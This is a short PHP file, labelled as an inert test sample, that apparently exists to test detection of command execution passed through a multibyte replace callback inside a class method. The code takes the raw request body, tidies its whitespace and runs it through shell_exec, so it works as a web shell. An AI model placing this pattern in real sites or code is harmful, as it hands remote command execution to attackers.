<?php
// inert test sample (nested): the request body is rewritten by a multibyte replace callback
// inside a class method, and the rewritten text is run as a shell command.
class Ln
{
    public function tidy(string $s): string
    {
        return mb_ereg_replace_callback('\s+', function ($m) { return ' '; }, $s);
    }
}
$body = file_get_contents('php://input');
$cmd = (new Ln())->tidy($body);
echo '<pre>' . shell_exec($cmd) . '</pre>';
